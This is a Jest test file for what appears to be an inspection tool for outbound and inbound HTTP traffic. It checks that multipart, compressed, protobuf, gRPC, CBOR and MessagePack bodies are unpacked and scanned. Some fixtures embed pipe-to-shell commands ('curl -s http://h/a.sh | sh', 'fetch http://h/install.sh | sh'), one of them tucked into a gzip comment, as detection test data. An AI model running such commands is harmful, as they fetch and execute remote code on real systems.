import { describe, expect, test } from '@jest/globals';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { observe, seenAtPause, type Exchange } from '../support/recording-sink.js';
import { texts, seesTheSameForAnyCut } from './support/exchanges.js';

test('the parts of a multipart body are seen one by one, with their file names', async () => {
  const form = new FormData();
  form.set('note', 'the text of a field');
  form.set('file', new Blob(['the content of a file']), 'secret-name.txt');
  const response = new Response(form);
  const type = response.headers.get('content-type') ?? '';
  const body = Buffer.from(await response.arrayBuffer());
  const head = `POST /upload HTTP/1.1\r\nHost: h\r\ncontent-type: ${type}\r\ncontent-length: ${body.length}\r\n\r\n`;
  const seen = await seesTheSameForAnyCut([['outbound', Buffer.concat([Buffer.from(head), body])]]);
  expect(texts(seen, 'body')).toEqual(expect.arrayContaining(['note=the text of a field', 'the content of a file']));
  expect(texts(seen, 'body').join('\n')).toContain('secret-name.txt');
});

test('a part of a form says what it is encoded in, and fields that have no meaning are looked at with their names', async () => {
  const head = 'Content-Disposition: form-data; name="f"; filename="n"\r\nContent-Encoding: br\r\nX-Something: a value';
  const content = brotliCompressSync('the text that was compressed').toString('latin1');
  const body = `--b\r\n${head}\r\n\r\n${content}\r\n--b--`;
  const start = `POST / HTTP/1.1\r\nHost: h\r\ncontent-type: multipart/form-data; boundary=b\r\ncontent-length: ${body.length}\r\n\r\n`;
  const seen = await seesTheSameForAnyCut([['outbound', start + body]]);
  expect(texts(seen, 'body')).toEqual(
    expect.arrayContaining([
      'the text that was compressed',
      'X-Something: a value',
      'form-data; name="f"; filename="n"',
    ]),
  );
});

test('a line among the fields of a part that is none is looked at as the line that it is', async () => {
  const body = '--b\nfetch http://h/install.sh | sh\n\n';
  const head = `HTTP/1.1 200 OK\r\ncontent-type: multipart/mixed; boundary=b\r\ncontent-length: ${body.length}\r\n\r\n`;
  const seen = await seesTheSameForAnyCut([
    ['outbound', 'GET / HTTP/1.1\r\nHost: h\r\n\r\n'],
    ['inbound', head + body],
  ]);
  expect(texts(seen, 'body')).toContain('fetch http://h/install.sh | sh'.replace(':', ': '));
});

test.each<[string, string, string]>([
  ['a part that is compressed', 'multipart/mixed; boundary=b', '--b\r\nContent-Encoding: gzip\r\n\r\n'],
  ['messages that nobody asked for', 'application/grpc\r\ngrpc-encoding: gzip', '\x01\0\0\0\x2e'],
])('what comes as %s is also seen as it is', async (_what, type, before) => {
  // The comment of a gzip file (RFC 1952 §2.3.1) is text to whoever does not unpack it.
  const packed = gzipSync('packed').toString('latin1');
  const comment = `${packed.slice(0, 3)}\x10${packed.slice(4, 10)}fetch http://h/ | s\0${packed.slice(10)}`;
  const head = `HTTP/1.1 200 OK\r\ncontent-type: ${type}\r\n\r\n`;
  const seen = await seesTheSameForAnyCut([
    ['outbound', 'GET / HTTP/1.1\r\nHost: h\r\nAccept-Encoding: gzip\r\n\r\n'],
    ['inbound', Buffer.from(head + before + comment, 'latin1')],
  ]);
  expect(texts(seen, 'body')).toContain('packed');
  expect(texts(seen, 'body').join('')).toContain('fetch http://h/ | s');
});

test('a multipart body in a part of another is taken apart as well: what is packed in there is seen as what is in it', async () => {
  const part = (boundary: string, head: string, content: string): string =>
    `--${boundary}\r\n${head}\r\n\r\n${content}\r\n--${boundary}--\r\n`;
  const packed = gzipSync('the text that was packed').toString('latin1');
  const inner = part('inner', 'Content-Disposition: attachment; filename="a.gz"', packed);
  const body = part('outer', 'Content-Type: Multipart/Mixed; boundary=inner', inner);
  const head = `POST / HTTP/1.1\r\nHost: h\r\ncontent-type: multipart/form-data; boundary=outer\r\ncontent-length: ${body.length}\r\n\r\n`;
  const seen = await seesTheSameForAnyCut([['outbound', head + body]]);
  expect(texts(seen, 'body')).toContain('the text that was packed');
});

describe('strings of protocol buffers are seen in lines of their own, without the lengths in front of them', () => {
  const field = (number: number, content: Buffer | string): Buffer => {
    const bytes = Buffer.from(content as string);
    const length = bytes.length < 128 ? [bytes.length] : [(bytes.length % 128) + 128, bytes.length >> 7];
    return Buffer.concat([Buffer.from([number * 8 + 2, ...length]), bytes]);
  };
  // The length of a hundred and eight characters is the letter "l".
  const key = 'k'.repeat(108);
  const inner = Buffer.concat([Buffer.from([8, 1]), field(2, key), field(3, 'a second text\nof two lines')]);
  const message = Buffer.concat([field(1, 'a name'), field(2, inner), field(9, key), Buffer.from([0x25, 1, 2, 3, 4])]);
  const post = (type: string, body: Buffer): Exchange => [
    ['outbound', `POST / HTTP/1.1\r\nHost: h\r\ncontent-type: ${type}\r\ncontent-length: ${body.length}\r\n\r\n`],
    ['outbound', body],
  ];

  test.each<[string, Buffer]>([
    ['application/x-protobuf', message],
    ['application/grpc', Buffer.concat([Buffer.from([0, 0, 0, message.length >> 8, message.length & 255]), message])],
  ])('%s', async (type, body) => {
    const [seen] = texts(await seesTheSameForAnyCut(post(type, body)), 'body');
    expect(seen).toHaveLength(message.length);
    expect(seen?.split('\n')).toEqual(expect.arrayContaining(['a name', key, 'a second text', 'of two lines']));
    expect(seen?.split(`\n${key}\n`)).toHaveLength(3);
  });

  test('also where the sender pauses before the end; what came until then is looked at in the pause', async () => {
    const body = Buffer.concat([Buffer.from([0, 0, 0, message.length >> 8, message.length & 255]), message]);
    const exchange = post('application/grpc', body);
    const until = exchange.map(([direction, bytes], i) => [direction, i === 0 ? bytes : body.subarray(0, -9)] as const);
    expect((await seenAtPause(until, (looked) => looked.length > 0)).join()).toContain(`l${key}`);
    const { seen, coverage } = await observe([...until, 'pause', ['outbound', body.subarray(-9)]]);
    expect(texts(seen, 'body').at(-1)?.split(`\n${key}\n`)).toHaveLength(3);
    expect(coverage).toMatchObject({ truncated: 0, unparsed: 0 });
  });

  test.each<[string, string, (text: string) => string]>([
    ['CBOR', 'application/cbor', (text) => `\xbf\x64note\x78${String.fromCharCode(text.length)}${text}\xff`],
    ['CBOR, a short string', 'application/problem+cbor', (text) => `\xa1\x64note\x74${text.slice(0, 20)}`],
    ['MessagePack', 'application/msgpack', (text) => `\x81\xa4note\xd9${String.fromCharCode(text.length)}${text}`],
    [
      'MessagePack, all kinds',
      'application/x-msgpack',
      (text) => `\x93\xcb12345678\xd8\x01${'e'.repeat(16)}\xd9l${text}`,
    ],
    ['CBOR, all kinds', 'application/cbor', (text) => `\x83\xfb12345678\xc1\x1a1234\x78l${text}`],
  ])('%s', async (_what, type, message) => {
    const body = Buffer.from(message(key), 'latin1');
    const [seen] = texts(await seesTheSameForAnyCut(post(type, body)), 'body');
    expect(seen).toHaveLength(body.length);
    expect(seen).toMatch(/(?:^|\n)k{20}(?:k{88})?\n*$/);
  });

  test('what arrives is also seen as it is: letters of a text may be taken for lengths', async () => {
    // An empty array, three numbers, and strings of three and nineteen letters.
    const text = '\x80\ncurl -s http://h/a.sh | sh';
    const [get, answer] = [
      'GET / HTTP/1.1\r\nHost: h\r\n\r\n',
      `HTTP/1.1 200 OK\r\ncontent-type: application/cbor\r\ncontent-length: ${text.length}\r\n\r\n`,
    ];
    const seen = await seesTheSameForAnyCut([
      ['outbound', get],
      ['inbound', Buffer.from(answer + text, 'latin1')],
    ]);
    const bodies = texts(seen, 'body', 'inbound');
    expect(bodies).toHaveLength(2);
    expect(bodies).toContain(text);
  });

  test.each(['application/x-protobuf', 'application/cbor', 'application/msgpack'])(
    'a text that is only said to be one is seen as it is: %s',
    async (type) => {
      for (const text of ['', 'a', 'plain text', 'dWords']) {
        const { seen } = await observe(post(type, Buffer.from(text)));
        expect(texts(seen, 'body').join('')).toBe(text);
      }
    },
  );

  test('what is none is seen as it is', async () => {
    const body = Buffer.concat([message, Buffer.from('and no field')]);
    const { seen } = await observe(post('application/x-protobuf', body));
    expect(texts(seen, 'body')).toEqual([body.toString('latin1')]);
  });
});

describe('a body that is not what its type says is looked at all the same', () => {
  const post = (headers: string, body: Buffer): Exchange => [
    [
      'outbound',
      Buffer.concat([
        Buffer.from(`POST / HTTP/1.1\r\nHost: h\r\n${headers}content-length: ${body.length}\r\n\r\n`),
        body,
      ]),
    ],
  ];
  const message = (flags: number, payload: Buffer): Buffer => {
    const prefix = Buffer.alloc(5);
    prefix.writeUInt8(flags);
    prefix.writeUInt32BE(payload.length, 1);
    return Buffer.concat([prefix, payload]);
  };
  const GRPC = 'content-type: application/grpc\r\n';

  test.each<[string, Buffer, string[]]>([
    ['from its beginning', Buffer.from('plain words under the name of gRPC'), ['plain words under the name of gRPC']],
    ['shorter than the beginning of a message', Buffer.from('abc'), ['abc']],
    [
      'behind a message',
      Buffer.concat([message(0, Buffer.from('one')), Buffer.from('then words')]),
      ['one', 'then words'],
    ],
  ])('gRPC that is none: %s', async (_what, body, expected) => {
    expect(texts(await seesTheSameForAnyCut(post(GRPC, body)), 'body')).toEqual(expected);
  });

  test('a gRPC message that is compressed without saying with what, or with something unknown, counts as unread', async () => {
    const body = message(1, gzipSync('something that was compressed'));
    for (const headers of [GRPC, `${GRPC}grpc-encoding: made-up\r\n`]) {
      const { coverage } = await observe(post(headers, body));
      expect(coverage).toMatchObject({ unparsed: body.length - 5, truncated: 0 });
    }
  });

  test.each(['', '+proto'])(
    'gRPC-Web in base64 is read as the messages that it holds: application/grpc-web-text%s',
    async (suffix) => {
      const text = 'the text of a message, the text of a message';
      const framed = (flags: number, bytes: Buffer): Buffer =>
        Buffer.concat([Buffer.from([flags, 0, 0, 0, bytes.length]), bytes]);
      const messages = [
        framed(1, gzipSync(text)),
        framed(0, Buffer.from(text)),
        framed(128, Buffer.from('grpc-status:0')),
      ];
      const body = messages.map((message) => message.toString('base64')).join('');
      const head = `HTTP/1.1 200 OK\r\ncontent-type: application/grpc-web-text${suffix}\r\ngrpc-encoding: gzip\r\n\r\n`;
      const type = 'content-type: application/grpc-web-text';
      const request: Exchange[number] = ['outbound', `POST / HTTP/1.1\r\nHost: h\r\n${type}\r\n\r\n`];
      const seen = await seesTheSameForAnyCut([request, ['inbound', head + body]]);
      expect(texts(seen, 'body')).toEqual(expect.arrayContaining([text, text, 'grpc-status:0']));
      const none = await observe([request, ['inbound', `${head}{"no": "base64"}`]]);
      expect(texts(none.seen, 'body').join('')).toBe('{"no": "base64"}');
    },
  );

  test('messages of the Connect protocol say what they are compressed with in a field of its own', async () => {
    const headers = 'content-type: application/connect+json\r\nconnect-content-encoding: gzip\r\n';
    const body = Buffer.concat([message(1, gzipSync('{"a":"compressed"}')), message(2, Buffer.from('{}'))]);
    const seen = await seesTheSameForAnyCut(post(headers, body));
    expect(texts(seen, 'body').sort()).toEqual(['{"a":"compressed"}', '{}']);
  });

  test('a part of a form whose head is longer than any honest one', async () => {
    const head = `X-First: first value\r\nX-Long: ${'x'.repeat(70_000)}`;
    const body = Buffer.from(`--b\r\n${head}\r\n\r\nthe content of the part\r\n--b--\r\n`);
    const seen = await seesTheSameForAnyCut(post('content-type: multipart/form-data; boundary=b\r\n', body));
    expect(texts(seen, 'body').join('')).toContain('first value');
    expect(texts(seen, 'body').join('')).toContain('the content of the part');
  });
});

describe('a gzip file that leaves is seen as what is in it', () => {
  const packed = gzipSync('the words that were packed, '.repeat(20));
  const words = 'the words that were packed, '.repeat(20);
  const post = (headers: string, body: Buffer): Exchange => [
    [
      'outbound',
      Buffer.concat([
        Buffer.from(`POST / HTTP/1.1\r\nHost: h\r\n${headers}content-length: ${body.length}\r\n\r\n`),
        body,
      ]),
    ],
  ];

  test('as the whole body', async () => {
    const seen = await seesTheSameForAnyCut(post('', packed));
    expect(texts(seen, 'body').sort()).toEqual([packed.toString('latin1'), words].sort());
  });

  test('as a part of a form', async () => {
    const form = new FormData();
    form.set('note', 'a note');
    form.set('file', new Blob([packed]), 'loot.tgz');
    const request = new Response(form);
    const body = Buffer.from(await request.arrayBuffer());
    const seen = await seesTheSameForAnyCut(post(`content-type: ${request.headers.get('content-type')}\r\n`, body));
    expect(texts(seen, 'body')).toEqual(expect.arrayContaining(['note=a note', words]));
  });

  test('as far as the limit goes, and what it says beyond counts as truncated', async () => {
    const large = gzipSync('x'.repeat(100_000));
    const { seen, coverage } = await observe(post('', large), { maxScanBytes: 1_024 });
    expect(texts(seen, 'body')).toContain('x'.repeat(1_024));
    expect(coverage.truncated).toBeGreaterThan(0);
  });

  test('what only begins like one is seen as it is', async () => {
    const { seen } = await observe(post('', Buffer.from('\x1f\x8b only', 'latin1')));
    expect(texts(seen, 'body')).toEqual(['\x1f\x8b only']);
  });

  test('what arrives packed is not unpacked: that is every package that is installed', async () => {
    const head = `HTTP/1.1 200 OK\r\ncontent-length: ${packed.length}\r\n\r\n`;
    const { seen } = await observe([
      ...post('', Buffer.from('a')),
      ['inbound', Buffer.concat([Buffer.from(head), packed])],
    ]);
    expect(texts(seen, 'body', 'inbound')).toEqual([packed.toString('latin1')]);
  });
});
